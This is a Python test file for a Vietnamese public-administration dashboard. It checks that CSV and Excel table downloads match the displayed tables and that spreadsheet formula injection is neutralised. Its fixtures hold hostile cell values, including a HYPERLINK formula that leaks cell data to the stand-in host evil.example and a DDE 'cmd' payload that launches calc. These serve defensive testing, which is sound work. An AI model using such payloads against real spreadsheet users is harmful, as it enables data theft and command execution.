"""Table downloads (issue 16 item 7): every table of the pages goes through cchc.ui.tables.show,
whose "Tải CSV" / "Tải Excel" hold exactly the table shown; cells a spreadsheet would run as a
formula are made inert (cchc.export.tables.neutralise) in both files."""
from __future__ import annotations

import ast
import io
import json
from datetime import date
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from cchc import metrics
from cchc.export import tables as export

ROOT = Path(__file__).resolve().parent.parent
YEAR_2023 = {"from": "2022-12-10", "to": "2023-12-09"}
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1+1"]
NAME = "Xã Quốc Tuấn; “Nam Sách”, Hải Dương"  # diacritics, the separator and a comma in one cell


def hostile_frame() -> pl.DataFrame:
    n = len(HOSTILE) + 1
    return pl.DataFrame({
        "Đơn vị": HOSTILE + [NAME],
        "=Cột": ["a"] * n,                                  # a hostile header too
        "Số hồ sơ": [3262, -5, 0, None, 12, 1, 7],           # integers, one negative
        "Tỷ lệ": [0.9997, -2.5, None, 1.0, 0.5, 0.25, 0.0],  # floats, one negative
        "Ngày": [date(2023, 12, 9)] * n,
        "Hiển thị": ["99,97 %", "−0,03 điểm %", "+1,25 điểm %", "3.262", "–", "1.234,5", "0 %"],
    })


def read_csv(data: bytes) -> pl.DataFrame:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM first, so Excel reads the Vietnamese letters"
    return pl.read_csv(io.BytesIO(data[3:]), separator=export.SEPARATOR, decimal_comma=True,
                       infer_schema=False)


def xlsx_rows(data: bytes) -> list[list[openpyxl.cell.Cell]]:
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    return [list(r) for r in ws.iter_rows()]


def test_neutralise_makes_formula_starts_inert_and_leaves_the_rest():
    for text in HOSTILE:
        assert export.neutralise(text) == "'" + text
    for kept in (NAME, "99,97 %", "−0,03", "3.262", "", "a=b", " =1"):  # "−" is U+2212, not a formula sign
        assert export.neutralise(kept) == kept
    for value in (-5, -2.5, 0, None, date(2023, 1, 1)):
        assert export.neutralise(value) == value


def test_csv_starts_with_the_bom_and_every_hostile_cell_is_inert():
    data = export.to_csv(hostile_frame())
    back = read_csv(data)
    assert back.columns == ["Đơn vị", "'=Cột", "Số hồ sơ", "Tỷ lệ", "Ngày", "Hiển thị"]
    assert back["Đơn vị"].to_list() == ["'" + h for h in HOSTILE] + [NAME]
    # numbers stay bare numbers, negative ones with an ASCII '-' and a decimal comma, never quoted text
    assert back["Số hồ sơ"].to_list() == ["3262", "-5", "0", None, "12", "1", "7"]
    assert back["Tỷ lệ"].to_list() == ["0,9997", "-2,5", None, "1,0", "0,5", "0,25", "0,0"]
    assert back["Ngày"].to_list() == ["09/12/2023"] * 7
    assert back["Hiển thị"][2] == "'+1,25 điểm %" and back["Hiển thị"][1] == "−0,03 điểm %"
    text = data.decode("utf-8-sig")
    lines = text.split("\r\n")
    assert lines[0] == "Đơn vị;'=Cột;Số hồ sơ;Tỷ lệ;Ngày;Hiển thị"
    assert ";-5;-2,5;" in lines[2]
    # no cell of the file, as a spreadsheet splits it, starts a formula
    for row in back.iter_rows():
        for cell in row:
            assert cell is None or not cell.startswith(export.FORMULA_STARTS) or cell.lstrip("-").replace(",", "").isdigit()


def test_xlsx_has_no_formula_cell_and_numbers_stay_numbers():
    rows = xlsx_rows(export.to_xlsx(hostile_frame(), ["Bảng thử", "=cmd|' /C calc'!A0", "Dữ liệu đến 09/12/2023"]))
    assert not [c.coordinate for r in rows for c in r if c.data_type == "f"]
    assert [r[0].value for r in rows[:3]] == ["Bảng thử", "'=cmd|' /C calc'!A0", "Dữ liệu đến 09/12/2023"]
    head = [c.value for c in rows[4]]
    assert head == ["Đơn vị", "'=Cột", "Số hồ sơ", "Tỷ lệ", "Ngày", "Hiển thị"]
    body = rows[5:]
    # xlsxwriter stores a carriage return as Excel's escape _x000D_, which openpyxl leaves as written
    assert [r[0].value.replace("_x000D_", "\r") for r in body] == ["'" + h for h in HOSTILE] + [NAME]
    assert [r[2].value for r in body] == [3262, -5, 0, None, 12, 1, 7]
    assert all(r[2].data_type == "n" for r in body)
    assert [r[3].value for r in body] == [0.9997, -2.5, None, 1, 0.5, 0.25, 0]
    assert body[0][4].value.date() == date(2023, 12, 9) and body[0][4].number_format == "dd/mm/yyyy"
    assert body[2][5].value == "'+1,25 điểm %" and body[2][5].data_type == "s"


def test_a_dict_of_columns_is_written_like_a_frame():
    table = {"Chỉ tiêu": ["=1+1", "Tỷ lệ"], "Xã A": ["3.262", "99,97 %"]}
    assert export.to_csv(table) == export.to_csv(pl.DataFrame(table))
    assert read_csv(export.to_csv(table))["Chỉ tiêu"].to_list() == ["'=1+1", "Tỷ lệ"]


def test_shown_drops_hidden_columns_and_uses_the_shown_labels():
    from cchc.ui import tables

    df = pl.DataFrame({"a": [1], "b": ["x"], "c": ["y"]})
    got = tables.shown(df, {"b": None, "c": {"label": "Cột C", "width": "small"}})
    assert got.columns == ["a", "Cột C"]
    assert tables.shown(df, None, ["c", "a"]).columns == ["c", "a"]


# --- the pages --------------------------------------------------------------------------------------
def _dataframe_calls(path: Path) -> list[int]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    return [n.lineno for n in ast.walk(tree) if isinstance(n, ast.Attribute) and n.attr in ("dataframe", "data_editor")
            and isinstance(n.value, ast.Name) and n.value.id == "st"]


ALLOWED: dict[str, int] = {}  # page -> bare st.dataframe calls kept on purpose (none)


def test_every_page_table_goes_through_tables_show():
    pages = sorted((ROOT / "pages").glob("*.py"))
    bare = {p.name: _dataframe_calls(p) for p in pages if len(_dataframe_calls(p)) != ALLOWED.get(p.stem, 0)}
    assert not bare, f"tables drawn without their downloads (use cchc.ui.tables.show): {bare}"
    shown = sum(p.read_text(encoding="utf-8").count("tables.show(") for p in pages)
    assert shown >= 30, shown  # the scan sees the pages' tables


@pytest.fixture()
def deferred(monkeypatch):
    """(file name, data callable) of the download buttons of an AppTest run, by deferred file id
    (AppTest's media manager is dropped after the run; the callable is what a click in the browser runs)."""
    from streamlit.runtime.media_file_manager import MediaFileManager

    seen: dict[str, object] = {}
    original = MediaFileManager.add_deferred

    def add_deferred(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
        file_id = original(self, data_callable, mimetype, coordinates, file_name=file_name, **kwargs)
        seen[file_id] = (file_name, data_callable)
        return file_id
    monkeypatch.setattr(MediaFileManager, "add_deferred", add_deferred)
    return seen


def _button(at, label: str, key: str):
    found = [b for b in at.get("download_button") if b.proto.label == label and b.proto.id.endswith(key)]
    assert len(found) == 1, [(b.proto.label, b.proto.id) for b in at.get("download_button")]
    return found[0].proto


def as_shown(element) -> tuple[list[str], list[tuple]]:
    """Headers and rows of an st.dataframe as the browser draws it: the columns in the element's
    column_order, each under its column_config label."""
    df = element.value
    order = list(element.proto.column_order) or list(df.columns)
    config = json.loads(element.proto.columns or "{}")
    heads = [(config.get(c) or {}).get("label") or c for c in order]
    return heads, [tuple(r) for r in df[order].itertuples(index=False)]


def test_the_province_ranking_downloads_equal_the_shown_table(app, deferred):
    at = app(page="pages/tong_quan.py", unit="30", all="1", **YEAR_2023)
    assert len(at.dataframe) == 1  # the ranking is the overview's one table
    heads, rows_shown = as_shown(at.dataframe[0])
    assert len(rows_shown) > 100 and "Thuộc" in heads  # every commune of the province, with its district
    # the key columns first: rank, name, the rate ranked on (issue 16 item 1)
    assert heads[:3] == ["Hạng", "Đơn vị", metrics.short("on_time_rate")]
    csv_name, csv = deferred[_button(at, "Tải CSV", "csv_ov_rank_table").deferred_file_id]
    assert csv_name.endswith("_tinh-hai-duong_nam-2023.csv") and csv_name.startswith("xep-hang-"), csv_name
    back = read_csv(csv())
    assert back.columns == heads
    assert back.rows() == rows_shown
    assert all(v.endswith(" %") or v == "–" for v in back[heads[2]].to_list())  # rates as shown

    xlsx_name, xlsx = deferred[_button(at, "Tải Excel", "xlsx_ov_rank_table").deferred_file_id]
    assert xlsx_name == csv_name[:-3] + "xlsx"
    rows = xlsx_rows(xlsx())
    assert rows[0][0].value.startswith("Xếp hạng ") and rows[1][0].value.startswith("Tỉnh Hải Dương — ")
    assert rows[2][0].value.startswith("Dữ liệu đến ")
    start = next(i for i, r in enumerate(rows) if r[0].value == heads[0])
    assert [c.value for c in rows[start]] == heads
    assert [tuple(c.value for c in r) for r in rows[start + 1:]] == rows_shown
    assert not [c for r in rows for c in r if c.data_type == "f"]


# The key columns of the tables issue 16 names, pinned first and together no wider than the main
# column at a 1024 px window (tables.FIT_PX; checked by eye on screenshots at 1024 and 1280 px).
KEY_COLUMNS = [
    ("pages/tong_quan.py", {"unit": "30", "all": "1"}, ["Hạng", "Đơn vị", "Tỷ lệ trước, đúng hạn"]),
    ("pages/ho_so.py", {"unit": "10621", "field": "Chứng thực"}, ["Thủ tục", "Tỷ lệ trước, đúng hạn"]),
    ("pages/ho_so.py", {"unit": "10621", "field": "*", "proc": "*"}, ["Mã hồ sơ", "Thủ tục", "Số ngày xử lý"]),
    ("pages/chi_so.py", {"unit": "291", "idx": "766", "ind": "2.1"}, ["Mã hồ sơ", "Thủ tục", "Lý do mất điểm"]),
    ("pages/tai_chinh.py", {"unit": "30"}, ["Thứ tự", "Đơn vị", "Thu ngân sách"]),
]


def _key_columns(app, page, params, wanted) -> list[str]:
    """The checks below on one page's table; returns its pinned columns."""
    from cchc.ui import tables

    at = app(page=page, **params, **YEAR_2023)
    found = []
    for d in at.dataframe:
        heads, _ = as_shown(d)
        if heads[:len(wanted)] == wanted:
            found.append(d)
    assert found, [as_shown(d)[0][:4] for d in at.dataframe]
    config = json.loads(found[0].proto.columns)
    order = list(found[0].proto.column_order)
    widths = [config[c]["width"] for c in order[:len(wanted)]]
    assert all(isinstance(w, int) and w > 0 for w in widths)
    select = tables.SELECT_PX if len(found[0].proto.selection_mode) else 0  # the row checkboxes
    assert sum(widths) + select <= tables.FIT_PX, widths
    # pinned columns come first and stay within the share Streamlit still freezes (else none is frozen)
    pinned = [c for c in order if (config.get(c) or {}).get("pinned")]
    assert pinned == order[:len(pinned)] and sum(config[c]["width"] for c in pinned) <= tables.PIN_PX
    return pinned


@pytest.mark.parametrize("page,params,wanted", KEY_COLUMNS)
def test_key_columns_come_first_and_fit_at_1024_px(app, page, params, wanted):
    _key_columns(app, page, params, wanted)


def test_the_rank_and_name_stay_when_the_ranking_scrolls_sideways(app):
    assert _key_columns(app, *KEY_COLUMNS[0]) == ["Hạng (1 = tốt nhất)", "Đơn vị"]  # shown as "Hạng"


def test_a_page_table_with_a_number_column_downloads_it_as_numbers(app, deferred):
    # the finance ranking holds its rank as a number and its amounts as shown text ("214,87")
    at = app(page="pages/tai_chinh.py", unit="30", **YEAR_2023)
    ranking = [d for d in at.dataframe if as_shown(d)[0][:2] == ["Thứ tự", "Đơn vị"]]
    assert len(ranking) == 1
    heads, rows_shown = as_shown(ranking[0])
    assert all(isinstance(r[0], int) for r in rows_shown) and isinstance(rows_shown[0][-1], str)
    key = next(b.proto.id.split("xlsx_")[-1] for b in at.get("download_button") if "xlsx_fin_rank_table" in b.proto.id)
    rows = xlsx_rows(deferred[_button(at, "Tải Excel", f"xlsx_{key}").deferred_file_id][1]())
    start = next(i for i, r in enumerate(rows) if r[0].value == "Thứ tự")
    body = rows[start + 1:]
    assert [c.value for c in rows[start]] == heads
    assert [tuple(c.value for c in r) for r in body] == rows_shown
    assert all(r[0].data_type == "n" and r[1].data_type == "s" and r[-1].data_type == "s" for r in body)
    back = read_csv(deferred[_button(at, "Tải CSV", f"csv_{key}").deferred_file_id][1]())
    assert back.rows() == [tuple(str(v) for v in r) for r in rows_shown]
